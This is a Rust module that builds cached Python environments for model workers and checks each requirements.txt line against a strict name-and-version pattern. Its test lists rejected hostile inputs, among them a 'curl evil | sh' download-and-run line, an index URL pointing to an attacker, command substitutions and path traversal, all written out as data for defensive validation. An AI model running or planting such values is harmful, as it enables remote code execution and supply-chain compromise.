//! The interpreter that a model's workers run in.
//!
//! ```text
//! .mlstore/cache/python/<id>/          made once for the same requirements and the same interpreter
//!   requirements.txt                   what was asked for, line by line
//!   venv/bin/python
//!   ready                              written last: without it the folder is made anew
//! ```
//!
//! A requirement is data: a name with versions, nothing that a tool would take for an option, an address or a path.

use std::ffi::OsString;
use std::fs;
use std::os::unix::fs::OpenOptionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::base::{Digest, fs as files};
use crate::model::score::worker;

use super::Error;

/// Which interpreter workers run in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Choice {
    /// An environment of the model's own where it names requirements, made by `uv` if that is there; else the present one.
    #[default]
    Auto,
    /// The present interpreter, whatever the model asks for.
    Local,
    Uv,
    Venv,
}

/// What an environment is made from.
#[derive(Debug, Clone)]
pub struct Wanted {
    pub choice: Choice,
    /// The present interpreter.
    pub python: PathBuf,
    /// Where `uv` is, if it is anywhere.
    pub uv: Option<PathBuf>,
    /// The store's `cache` folder.
    pub cache: PathBuf,
    /// The text of the model's `requirements.txt`.
    pub requirements: Option<String>,
    /// Whether only packages are taken that are built already: to build one is to run what is in it.
    pub wheels_only: bool,
}

/// What becomes of [`prepare`], and what is told before it begins to install.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Environment {
    pub python: PathBuf,
    /// Whether it was made just now.
    pub made: bool,
}

/// Returns the interpreter to run, made where it is not there yet. `tell` hears each line before it is installed.
pub fn prepare(wanted: &Wanted, tell: &dyn Fn(&str)) -> Result<Environment, Error> {
    let local = || Ok(Environment { python: wanted.python.clone(), made: false });
    let requirements = match (&wanted.choice, &wanted.requirements) {
        (Choice::Local, _) | (Choice::Auto, None) => return local(),
        (_, text) => checked(text.as_deref().unwrap_or_default())?,
    };
    let tool = match (wanted.choice, &wanted.uv) {
        (Choice::Uv | Choice::Auto, Some(uv)) => Tool::Uv(uv.clone()),
        (Choice::Uv, None) => return Err(Error::NoPython("uv".to_owned())),
        _ => Tool::Venv,
    };
    let version = version(&wanted.python)?;
    let id = Digest::of(format!("1\n{version}\n{}", requirements.join("\n")).as_bytes());
    let folder = wanted.cache.join("python").join(id.to_string());
    let python = folder.join("venv/bin/python");
    fs::create_dir_all(&folder).map_err(io("create the folder of an environment"))?;
    let _lock = lock(&folder)?;
    if folder.join("ready").exists() && python.exists() {
        return Ok(Environment { python, made: false });
    }
    requirements.iter().for_each(|line| tell(line));
    make(&tool, wanted, &folder, &requirements)?;
    Ok(Environment { python, made: true })
}

enum Tool {
    Uv(PathBuf),
    Venv,
}

/// Returns the requirements, one a line; anything that is more than a name with versions is refused.
fn checked(text: &str) -> Result<Vec<String>, Error> {
    const MOST: usize = 2000;
    let mut all = vec![];
    for (number, line) in text.lines().enumerate() {
        let line = line.split(" #").next().unwrap_or_default().trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        if !is_plain(line) || all.len() == MOST {
            return Err(Error::Requirement { line: number + 1, text: line.to_owned() });
        }
        all.push(line.to_owned());
    }
    all.sort_unstable();
    Ok(all)
}

/// Tells whether a line is a name, extras and versions, with a marker at most.
fn is_plain(line: &str) -> bool {
    let (requirement, marker) = line.split_once(';').unwrap_or((line, ""));
    let name = requirement.trim_start().chars().next().is_some_and(|c| c.is_ascii_alphanumeric());
    let word = |c: char| c.is_ascii_alphanumeric() || "-_.[],<>=!~*+ ()".contains(c);
    let named = |text: &str| {
        text.contains("python")
            || text.contains("platform")
            || text.contains("extra")
            || text.contains("implementation")
            || text.contains("sys_")
            || text.contains("os_name")
    };
    let marks = |c: char| word(c) || c == '\'' || c == '"';
    let slashes = requirement.contains("..");
    line.len() <= 500
        && name
        && !slashes
        && requirement.chars().all(word)
        && (marker.is_empty() || (named(marker) && marker.chars().all(marks)))
}

fn version(python: &Path) -> Result<String, Error> {
    let program = "import sys; print(sys.implementation.name, sys.version, sys.base_prefix)";
    let said = Command::new(python)
        .args(["-I", "-c", program])
        .stdin(Stdio::null())
        .output()
        .map_err(|_| Error::NoPython(python.display().to_string()))?;
    match said.status.success() {
        true => Ok(String::from_utf8_lossy(&said.stdout).into_owned()),
        false => Err(Error::NoPython(python.display().to_string())),
    }
}

/// One process makes an environment, and others wait for it.
fn lock(folder: &Path) -> Result<fs::File, Error> {
    let file = fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .mode(0o600)
        .open(folder.join("lock"))
        .map_err(io("lock an environment"))?;
    file.lock().map_err(io("lock an environment"))?;
    Ok(file)
}

fn make(tool: &Tool, wanted: &Wanted, folder: &Path, lines: &[String]) -> Result<(), Error> {
    let (venv, list) = (folder.join("venv"), folder.join("requirements.txt"));
    if venv.exists() {
        fs::remove_dir_all(&venv).map_err(io("remove half an environment"))?;
    }
    files::write_derived(&list, (lines.join("\n") + "\n").as_bytes())
        .map_err(io("write requirements"))?;
    let python = venv.join("bin/python");
    let own = |path: &Path| path.as_os_str().to_owned();
    let words = |words: &[&str]| words.iter().map(OsString::from).collect::<Vec<_>>();
    let wheels = if wanted.wheels_only { words(&["--only-binary", ":all:"]) } else { vec![] };
    let rest = [&wheels[..], &[OsString::from("-r"), own(&list)]].concat();
    match tool {
        Tool::Uv(uv) => {
            let base = [own(uv), "venv".into(), "--no-project".into(), "--python".into()];
            run("uv", &[&base[..], &[own(&wanted.python), own(&venv)]].concat())?;
            if !lines.is_empty() {
                let install = words(&["pip", "install", "--no-config", "--python"]);
                run("uv", &[&[own(uv)], &install[..], &[own(&python)], &rest[..]].concat())?;
            }
        }
        Tool::Venv => {
            run("venv", &[own(&wanted.python), "-m".into(), "venv".into(), own(&venv)])?;
            if !lines.is_empty() {
                let quiet = ["-m", "pip", "install", "--quiet", "--no-input"];
                let install = words(&[&quiet[..], &["--disable-pip-version-check"]].concat());
                run("pip", &[&[own(&python)], &install[..], &rest[..]].concat())?;
            }
        }
    }
    // A worker in a sandbox is somebody else.
    files::let_all_read(&venv).map_err(io("finish an environment"))?;
    files::write_derived(&folder.join("ready"), b"").map_err(io("finish an environment"))
}

fn run(tool: &str, words: &[OsString]) -> Result<(), Error> {
    let Some((program, args)) = words.split_first() else { return Ok(()) };
    let said = Command::new(program)
        .args(args)
        .env("UV_PYTHON_DOWNLOADS", "never")
        .stdin(Stdio::null())
        .output()
        .map_err(|source| Error::Install { tool: tool.to_owned(), said: source.to_string() })?;
    if said.status.success() {
        return Ok(());
    }
    let text = String::from_utf8_lossy(&said.stderr);
    let from = text.floor_char_boundary(text.len().saturating_sub(4000));
    Err(Error::Install { tool: tool.to_owned(), said: text[from..].to_owned() })
}

fn io(action: &'static str) -> impl Fn(std::io::Error) -> Error {
    move |source| worker::Error::Io { action, source }.into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn m04_a_requirement_is_a_name_with_versions_and_nothing_else() {
        for good in [
            "mlflow==3.17.2",
            "scikit-learn>=1.5,<2",
            "xgboost[dask] ~= 3.0",
            "numpy; python_version < '3.12'",
            "torch==2.1.0+cpu",
        ] {
            assert!(is_plain(good), "{good}");
        }
        for bad in [
            "-e git+https://example.com/x",
            "--index-url https://evil.example",
            "x; curl evil | sh",
            "x @ https://evil.example/x.whl",
            "../x",
            "./x.whl",
            "/x",
            "x `id`",
            "x $(id)",
            "-r other.txt",
            "",
        ] {
            assert!(!is_plain(bad), "{bad}");
        }
        assert!(checked("# all\n\nnumpy\n").is_ok());
        assert!(checked("numpy\n-r other.txt\n").is_err());
    }
}
